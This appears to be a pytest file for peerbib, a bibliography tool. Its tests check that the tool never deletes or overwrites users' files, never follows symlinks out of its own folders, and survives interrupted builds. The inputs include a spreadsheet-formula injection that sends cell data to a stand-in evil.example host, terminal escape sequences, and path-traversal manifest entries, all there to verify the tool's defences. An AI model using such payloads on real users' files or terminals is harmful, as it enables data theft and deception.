"""Issue 18, items 1-4 and 8-10: peerbib deletes or replaces only what it wrote.

Each test rebuilds a probe that destroyed or exposed a user's files on the
main branch before this change (the docstring says what happened then).
The projects are copies of the bundled data in temporary folders; works
made up here are SYNTHETIC and say so.
"""
from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from fixtures.openalex import TEST_KEY, citation_graph

import peerbib as pb
from peerbib import cli
from peerbib.errors import OwnershipError

TESTS = Path(__file__).resolve().parents[1]
FAST = dict(api_key=TEST_KEY, progress=False, max_rate=0, sleep=lambda s: None)


def snapshot_of(folder: Path) -> dict[str, str]:
    """Every file and symlink under ``folder`` (relative path -> sha256 of the bytes, or the link's target)."""
    found = {}
    for current, dirs, files in os.walk(folder, followlinks=False):
        for name in files + [d for d in dirs if os.path.islink(os.path.join(current, d))]:
            path = Path(current) / name
            key = path.relative_to(folder).as_posix()
            found[key] = ("link:" + os.readlink(path)) if path.is_symlink() else \
                hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def run_cli(capsys, *argv) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def one_line_error(err: str, command: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    assert lines[0].startswith(f"peerbib {command}: error: ") and "Traceback" not in err
    return lines[0]


def tiny_notebooks(project: Path) -> None:
    """Replace the project's notebooks by one quick notebook (the reports' machinery is what is tested)."""
    for path in (project / "notebooks").glob("*.ipynb"):
        path.unlink()
    notebook = nbformat.v4.new_notebook()
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    notebook.cells = [nbformat.v4.new_markdown_cell("# Quick"), nbformat.v4.new_code_cell("print('quick')")]
    nbformat.write(notebook, project / "notebooks" / "01_quick.ipynb")


# --- 1. output folders ----------------------------------------------------------------------------


@pytest.fixture
def user_project(project):
    """A project as a researcher keeps it: notes at the top, a thesis on a Desktop folder inside."""
    (project / "notes.md").write_text("my notes\n", encoding="utf-8")
    (project / "Desktop").mkdir()
    (project / "Desktop" / "thesis.docx").write_bytes(b"PK\x03\x04 thesis chapters")
    return project


@pytest.mark.parametrize("argv", [
    ["report", "--only", "01_publication_years", "--out", "Desktop"],
    ["report", "--out", "."],
    ["report", "--out", "data/raw"],
    ["report", "--out", "data"],
    ["report", "--out", "notebooks"],
    ["build", "--processed", "data/raw"],
    ["build", "--processed", "data/raw/corpus"],
    ["build", "--processed", "."],
    ["build", "--processed", "Desktop"],
    ["build", "--processed", ".."],
    ["build", "--processed", "data/raw/new_folder"],
], ids=lambda argv: " ".join(argv))
def test_an_output_folder_that_is_not_peerbibs_is_refused_and_nothing_changes(user_project, capsys, monkeypatch,
                                                                               argv):
    """Was: `report --out Desktop` left Desktop holding two pages, `build --processed data/raw` deleted the
    corpus, `report --out .` replaced the whole project (exit 0 each time)."""
    monkeypatch.chdir(user_project)
    before = snapshot_of(user_project.parent)
    code, out, err = run_cli(capsys, *argv)
    assert code == 1
    line = one_line_error(err, argv[0])
    assert "peerbib" in line and ("did not write" in line or "never replaces" in line)
    assert snapshot_of(user_project.parent) == before  # not even a build ran first
    assert not (user_project / "data" / "processed").exists()


def test_the_python_api_refuses_too(user_project):
    with pytest.raises(OwnershipError, match="thesis.docx"):
        pb.build(processed=user_project / "Desktop")
    with pytest.raises(OwnershipError, match="never replaces"):
        pb.report(out=user_project / "data" / "raw")
    assert (user_project / "Desktop" / "thesis.docx").read_bytes() == b"PK\x03\x04 thesis chapters"


def test_a_file_the_user_put_into_peerbibs_own_folder_stops_the_replacement(project):
    """Was: a rebuild deleted whatever else the processed folder held."""
    pb.build()
    mine = project / "data" / "processed" / "my_analysis.R"
    mine.write_text("summary(works)\n", encoding="utf-8")
    with pytest.raises(OwnershipError, match=r"my_analysis\.R.*move it out"):
        pb.build()
    assert mine.read_text(encoding="utf-8") == "summary(works)\n"


def test_a_symlink_as_output_folder_is_refused(project, tmp_path):
    elsewhere = tmp_path / "shared_reports"
    elsewhere.mkdir()
    (elsewhere / "other.html").write_text("someone else's page", encoding="utf-8")
    (project / "reports").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(OwnershipError, match="symbolic link"):
        pb.report()
    assert (elsewhere / "other.html").read_text(encoding="utf-8") == "someone else's page"


def test_peerbibs_own_folders_new_or_empty_folders_and_older_reports_are_replaced(project):
    tiny_notebooks(project)
    (project / "empty").mkdir()
    pb.report(out=project / "empty")
    assert sorted(p.name for p in (project / "empty").iterdir()) == [".pages.json", "01_quick.html", "index.html"]
    pb.report(out=project / "empty")  # ours now: replaced again
    # reports of a peerbib from before the marker: pages and an index peerbib wrote
    older = project / "older"
    shutil.copytree(project / "empty", older)
    (older / ".pages.json").unlink()
    (older / ".DS_Store").write_bytes(b"\0")
    pb.report(out=older)
    assert (older / ".pages.json").is_file() and not (older / ".DS_Store").exists()
    pb.build()
    pb.build()
    assert not [p for p in project.rglob("*") if "peerbib-work" in p.name]


# --- 2. the fetch's clean-up and symlinks -----------------------------------------------------------


def test_the_sweep_never_follows_a_symlink_out_of_the_snapshot(api, tmp_path):
    """Was: a warm rerun deleted every file of a symlinked folder's target that the manifest did not list."""
    from peerbib.snapshot import fetch

    corpus, citing = citation_graph(8, 20, seed=11)  # SYNTHETIC works
    api.add(corpus + citing)
    snapshot = tmp_path / "raw" / "openalex"
    dois = [w["doi"] for w in corpus]
    fetch(dois, snapshot=snapshot, **FAST)
    shared = tmp_path / "shared_folder"
    (shared / "deep").mkdir(parents=True)
    for name in ("data.jsonl.gz", "W1.tei.xml.gz", "deep/x.json.gz", ".half.tmp", "notes.txt"):
        (shared / name).write_bytes(b"someone else's " + name.encode())
    outside_file = tmp_path / "outside.jsonl.gz"
    outside_file.write_bytes(b"outside")
    (snapshot / "pages" / "shared").symlink_to(shared, target_is_directory=True)
    (snapshot / "pages" / "linked.jsonl.gz").symlink_to(outside_file)
    (snapshot / "scite").symlink_to(shared, target_is_directory=True)  # a whole folder of ours as a symlink
    (snapshot / "pages" / "my_notes.txt").write_text("not a page", encoding="utf-8")
    (snapshot / ".outside.tmp").symlink_to(outside_file)
    before = snapshot_of(shared)
    requests = len(api.calls)
    summary = fetch(dois, snapshot=snapshot, **FAST)  # the ordinary warm rerun: no request, then a sweep
    assert summary.requests == 0 and len(api.calls) == requests
    assert snapshot_of(shared) == before
    assert outside_file.read_bytes() == b"outside"
    assert (snapshot / "pages" / "linked.jsonl.gz").is_symlink() and (snapshot / ".outside.tmp").is_symlink()
    assert (snapshot / "pages" / "my_notes.txt").is_file()
    # what the sweep is for still happens: a leftover page of a killed run goes
    stray = snapshot / "pages" / "leftover" / "killed-00001.jsonl.gz"
    stray.parent.mkdir()
    stray.write_bytes(b"unlisted page")
    fetch(dois, snapshot=snapshot, **FAST)
    assert not stray.exists() and snapshot_of(shared) == before


# --- 3. a copied project ---------------------------------------------------------------------------


def test_a_copied_project_reads_its_own_data(project, tmp_path, monkeypatch):
    """Was: in a copy B of project A, pb.load() returned A's works (the absolute raw path won), ignored B's
    new corpus file, and rebuilt B from A when A changed."""
    pb.build()
    copy = tmp_path / "copy"
    shutil.copytree(project, copy, symlinks=True)
    (copy / "data" / "raw" / "corpus" / "more_corpus.csv").write_text(
        "doi,title,year\n10.5555/synthetic.copy.1,A SYNTHETIC work only the copy has,2021\n", encoding="utf-8")
    monkeypatch.setenv("PEERBIB_PROJECT", str(copy))
    tables = pb.load()
    assert "10.5555/synthetic.copy.1" in set(tables.works["doi"])
    assert any("copied or moved project" in note for note in tables.notes)
    info = json.loads((copy / "data" / "processed" / "build_info.json").read_text(encoding="utf-8"))
    assert Path(info["raw"]) == copy / "data" / "raw"
    # the original changes: the copy does not follow it
    (project / "data" / "raw" / "corpus" / "late_corpus.csv").write_text(
        "doi,title,year\n10.5555/synthetic.original.1,A SYNTHETIC work only the original has,2022\n",
        encoding="utf-8")
    assert "10.5555/synthetic.original.1" not in set(pb.load().works["doi"])
    monkeypatch.setenv("PEERBIB_PROJECT", str(project))
    assert "10.5555/synthetic.copy.1" not in set(pb.load().works["doi"])


def test_an_unchanged_copy_is_built_again_from_its_own_folder_and_says_so(project, tmp_path, monkeypatch, capsys):
    pb.build()
    copy = tmp_path / "moved"
    shutil.copytree(project, copy, symlinks=True)
    shutil.rmtree(project)  # moved, not copied
    monkeypatch.setenv("PEERBIB_PROJECT", str(copy))
    monkeypatch.chdir(copy)
    code, out, err = run_cli(capsys, "code", "export", "--out", "coding.csv")
    assert code == 0, err
    info = json.loads((copy / "data" / "processed" / "build_info.json").read_text(encoding="utf-8"))
    assert Path(info["raw"]) == copy / "data" / "raw"


# --- 4. coding files -------------------------------------------------------------------------------


def test_a_second_export_never_overwrites_codes(project, tmp_path, capsys, monkeypatch):
    """Was: a second `peerbib code export` overwrote the coded file (6 coded rows -> 0, no warning)."""
    monkeypatch.chdir(project)
    assert run_cli(capsys, "code", "export", "--out", "coding.csv")[0] == 0
    coding = project / "coding.csv"
    frame = pd.read_csv(coding, dtype="str", keep_default_na=False)
    frame.loc[frame.index[:3], "code"] = "mentioning"
    frame.to_csv(coding, index=False)
    coded = coding.read_bytes()
    code, out, err = run_cli(capsys, "code", "export", "--out", "coding.csv")
    assert code == 1 and "3 coded statements" in one_line_error(err, "code") and "--force" in err
    assert coding.read_bytes() == coded
    code, out, err = run_cli(capsys, "code", "export", "--out", "coding.csv", "--force")
    assert code == 0 and "coding.csv.bak" in err
    assert (project / "coding.csv.bak").read_bytes() == coded
    code, out, err = run_cli(capsys, "code", "export", "--out", "coding.csv")  # the new export has no codes yet
    assert code == 0
    # a file that is not a coding export is not peerbib's either
    other = project / "results.csv"
    other.write_text("model,f1\nmine,0.7\n", encoding="utf-8")
    with pytest.raises(OwnershipError, match="not a coding file"):
        pb.export_for_coding(pb.load().statements, other)
    assert other.read_text(encoding="utf-8") == "model,f1\nmine,0.7\n"


def test_statement_text_never_becomes_a_spreadsheet_formula(tmp_path):
    """Was: text beginning with =, +, - or @ went into the CSV as a live formula (=HYPERLINK(…))."""
    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 more", "-2 fewer", "@SUM(A1:A2)",
             "\tTabbed", "'=quoted already", "plain (Smith, 2020)."]
    statements = pd.DataFrame({"statement_id": [f"S{i}" for i in range(len(texts))], "citing_id": "W1",
                               "cited_id": "W2", "text": texts, "context_before": "=1+1", "context_after": "-x"})
    path = pb.export_for_coding(statements, tmp_path / "coding.csv")
    import csv

    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert rows[0]["text"].startswith("'=HYPERLINK")
    frame = pd.read_csv(path, dtype="str", keep_default_na=False)
    frame["code"] = "mentioning"
    frame.to_csv(path, index=False)
    back = pb.read_coding(path)
    assert list(back["text"]) == texts  # the apostrophe comes off again; the sentence checks still pass
    assert set(back["context_before"]) == {"=1+1"}


@pytest.mark.parametrize("argv, expected", [
    (["code", "export", "--sample", "-1"], "whole number of at least 1"),
    (["code", "export", "--sample", "0"], "whole number of at least 1"),
    (["code", "export", "--out", "data"], "is a folder"),
])
def test_code_export_user_errors_are_one_line(project, capsys, monkeypatch, argv, expected):
    """Was: a traceback."""
    monkeypatch.chdir(project)
    code, out, err = run_cli(capsys, *argv)
    assert code == 1 and expected in one_line_error(err, "code")


# --- 8. kill -9 during build and report -----------------------------------------------------------

KILL_BUILD = textwrap.dedent("""
    import os, signal, sys
    sys.path.insert(0, {tests!r})
    import peerbib as pb
    import peerbib.files as files
    import pandas as pd
    moment = {moment!r}
    die = lambda: os.kill(os.getpid(), signal.SIGKILL)
    if moment == "writing":
        original = pd.DataFrame.to_parquet
        calls = []
        def to_parquet(self, *a, **k):
            calls.append(1)
            if len(calls) == 3:
                die()
            return original(self, *a, **k)
        pd.DataFrame.to_parquet = to_parquet
    elif moment == "after-swap":
        import peerbib.ownership as ownership
        swap = ownership._swap
        def swapped(*a):
            swap(*a)
            die()
        ownership._swap = swapped
    elif moment == "between-renames":
        files.exchange_dirs = lambda a, b: False
        real = os.replace
        seen = []
        def replace(src, dst):
            seen.append(dst)
            if str(dst).endswith("old"):
                real(src, dst)
                die()
            return real(src, dst)
        files.os.replace = replace
    pb.build()
""")


def _kill_then_check(project: Path, script: str) -> None:
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300,
                            env={**os.environ, "PEERBIB_PROJECT": str(project)})
    assert result.returncode == -9, result.stderr


def _tables(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()
            if p.suffix == ".parquet"}


@pytest.mark.parametrize("moment", ["writing", "after-swap", "between-renames"])
def test_kill_9_during_a_build_leaves_old_or_new_tables_and_the_next_run_cleans_up(project, moment):
    """Was: kill -9 left hidden data/.processed-build-* folders that nothing ever removed."""
    old = pb.build()
    processed = project / "data" / "processed"
    old_files = _tables(processed)
    (project / "data" / "raw" / "corpus" / "late_corpus.csv").write_text(
        "doi,title,year\n10.5555/synthetic.late.1,A SYNTHETIC late work,2023\n", encoding="utf-8")
    _kill_then_check(project, KILL_BUILD.format(tests=str(TESTS), moment=moment))
    if moment == "between-renames":
        # Without an atomic exchange (not Linux), a kill between the two renames leaves no folder; the old
        # one waits in the work folder, and the next peerbib run puts it back before anything else.
        from peerbib.ownership import PROCESSED_FOLDER, remove_stale_work

        assert not processed.exists()
        assert remove_stale_work(processed, PROCESSED_FOLDER)
        assert _tables(processed) == old_files
        (project / "data" / ".processed.peerbib-work-killed00").mkdir()  # and one killed before its lock
    now = _tables(processed)
    works = pd.read_parquet(processed / "works.parquet")
    if moment in ("writing", "between-renames"):
        assert now == old_files  # the old tables, whole
    else:
        assert now != old_files and "10.5555/synthetic.late.1" in set(works["doi"])  # the new ones, whole
        assert len(works) == len(old.works) + 1
    leftovers = [p for p in (project / "data").iterdir() if p.name.startswith(".processed")]
    assert leftovers  # what the kill left
    # an older peerbib's leftover, from before the work folders had locks
    legacy = project / "data" / ".processed-build-abc12345"
    legacy.mkdir()
    (legacy / "works.parquet").write_bytes(b"half")
    os.utime(legacy, (time.time() - 3600, time.time() - 3600))
    pb.build()
    assert not [p for p in (project / "data").iterdir() if p.name.startswith(".processed") and p.is_dir()]
    assert "10.5555/synthetic.late.1" in set(pb.load().works["doi"])


def test_a_live_builds_work_folder_is_left_alone(project):
    from peerbib.files import FileLock
    from peerbib.ownership import PROCESSED_FOLDER, remove_stale_work

    pb.build()
    live = project / "data" / ".processed.peerbib-work-live0000"
    live.mkdir()
    lock = FileLock(live / "lock")
    lock.acquire()
    try:
        assert remove_stale_work(project / "data" / "processed", PROCESSED_FOLDER) == []
        assert live.is_dir()
    finally:
        lock.release()
    assert remove_stale_work(project / "data" / "processed", PROCESSED_FOLDER) == [live] and not live.exists()


KILL_REPORT = textwrap.dedent("""
    import os, signal, sys
    import peerbib as pb
    import peerbib.reporting as reporting
    real = reporting.execute_notebook
    calls = []
    def execute(path, **options):
        calls.append(path)
        if len(calls) == 2:
            os.kill(os.getpid(), signal.SIGKILL)
        return real(path, **options)
    reporting.execute_notebook = execute
    pb.report()
""")


def test_kill_9_during_a_report_keeps_the_old_pages_and_the_next_run_cleans_up(project):
    tiny_notebooks(project)
    shutil.copy(project / "notebooks" / "01_quick.ipynb", project / "notebooks" / "02_quick.ipynb")
    pb.report()
    reports = project / "reports"
    before = snapshot_of(reports)
    _kill_then_check(project, KILL_REPORT)
    assert snapshot_of(reports) == before
    assert [p for p in project.iterdir() if p.name.startswith(".reports")]  # what the kill left
    pb.report()
    assert not [p for p in project.iterdir() if p.name.startswith(".reports")]


# --- 10. what the commands print -----------------------------------------------------------------


def test_terminal_escapes_in_data_are_printed_escaped(project, capsys, monkeypatch):
    """Was: a DOI holding terminal escape sequences was printed raw by `peerbib build` (it can retitle
    the window)."""
    monkeypatch.chdir(project)
    (project / "data" / "raw" / "corpus" / "evil_corpus.csv").write_text(
        "doi,title,year\n10.5555/x\x1b]0;pwned\x07\x1b[2J,SYNTHETIC evil,2020\n", encoding="utf-8")
    code, out, err = run_cli(capsys, "build")
    assert code == 1 and "malformed DOI" in one_line_error(err, "build")  # no DOI holds a control character
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "\\x1b]0;pwned\\x07" in err  # shown, escaped, so the user can find it in the file


def test_files_the_corpus_folder_holds_but_peerbib_does_not_read_are_named(project, capsys, monkeypatch):
    """Was: .ciw, .enw and a dangling symlink in corpus/ were skipped without a word."""
    monkeypatch.chdir(project)
    corpus = project / "data" / "raw" / "corpus"
    (corpus / "savedrecs.ciw").write_text("FN Clarivate Analytics Web of Science\nVR 1.0\nER\nEF\n", encoding="utf-8")
    (corpus / "endnote.enw").write_text("%0 Journal Article\n%T A title\n", encoding="utf-8")
    (corpus / "gone.csv").symlink_to(project / "nowhere.csv")
    (corpus / "retitle\x1b]0;pwned\x07.enw").write_text("%0 Journal Article\n", encoding="utf-8")
    code, out, err = run_cli(capsys, "build")
    assert code == 0
    warning = next(line for line in err.splitlines() if "not read" in line)
    assert "savedrecs.ciw" in warning and "endnote.enw" in warning and "gone.csv" in warning
    assert "retitle\\x1b]0;pwned\\x07.enw" in warning and "\x1b" not in out + err  # printed escaped
    assert ".ris" in warning and ".bib" in warning


# --- 9. a damaged snapshot manifest ----------------------------------------------------------------

_FORMAT = '"format": "peerbib-openalex-snapshot"'


@pytest.mark.parametrize("manifest, expected", [
    ('{%s, "queries": [{"key": "a", "kind": "doi", "pages": [{"file": 5}]}]}' % _FORMAT, "no file name"),
    ('{%s, "format_version": "two"}' % _FORMAT, "format_version"),
    ('{%s, "queries": {"a": 1}}' % _FORMAT, "queries is a dict"),
    ('{%s, "queries": ["a"]}' % _FORMAT, "not a query entry"),
    ('{%s, "fulltext": {"W1": 3}}' % _FORMAT, "full-text entry"),
    ('{%s, "queries": [{"key": "a", "pages": [{"file": "pages/%s", "sha256": "0"}]}]}' % (_FORMAT, "/".join([".."] * 3)),
     "not a path inside the snapshot folder"),
    ('{%s, "fulltext": {"W1": {"openalex-tei": {"file": "/etc/hostname", "status": 200}}}}' % _FORMAT,
     "not a path inside the snapshot folder"),
], ids=["page-file-a-number", "version-a-string", "queries-a-dict", "entry-a-string", "fulltext-a-number",
        "page-outside", "fulltext-absolute"])
def test_a_damaged_snapshot_manifest_is_a_one_line_error(project, capsys, monkeypatch, manifest, expected):
    """Was: a traceback (TypeError), or a page read from outside the snapshot folder."""
    monkeypatch.chdir(project)
    (project / "data" / "raw" / "openalex").mkdir()
    (project / "data" / "raw" / "openalex" / "manifest.json").write_text(manifest, encoding="utf-8")
    code, out, err = run_cli(capsys, "build")
    assert code == 1 and expected in one_line_error(err, "build")


def test_a_fetch_never_starts_a_snapshot_in_a_folder_of_the_users(api, tmp_path):
    """A fetch into a folder without a manifest would write beside the user's files, and its sweep delete
    those bearing peerbib's names."""
    from peerbib.snapshot import fetch

    corpus, citing = citation_graph(3, 4, seed=2)  # SYNTHETIC works
    api.add(corpus + citing)
    folder = tmp_path / "Documents"
    (folder / "pages").mkdir(parents=True)
    (folder / "pages" / "archive.jsonl.gz").write_bytes(b"my own data")
    (folder / "cv.pdf").write_bytes(b"%PDF")
    before = snapshot_of(folder)
    with pytest.raises(OwnershipError, match=r"cv\.pdf.*no manifest\.json"):
        fetch([w["doi"] for w in corpus], snapshot=folder, **FAST)
    assert {k: v for k, v in snapshot_of(folder).items() if not k.startswith(".")} == before
    # what a fetch killed before its first manifest leaves is its own: the fetch goes on there
    killed = tmp_path / "killed"
    (killed / "pages" / "q1").mkdir(parents=True)
    (killed / "pages" / "q1" / "run-00001.jsonl.gz").write_bytes(b"unlisted")
    (killed / ".fetch.lock").write_text("")
    assert fetch([w["doi"] for w in corpus], snapshot=killed, **FAST).status == "complete"
    assert not (killed / "pages" / "q1" / "run-00001.jsonl.gz").exists()
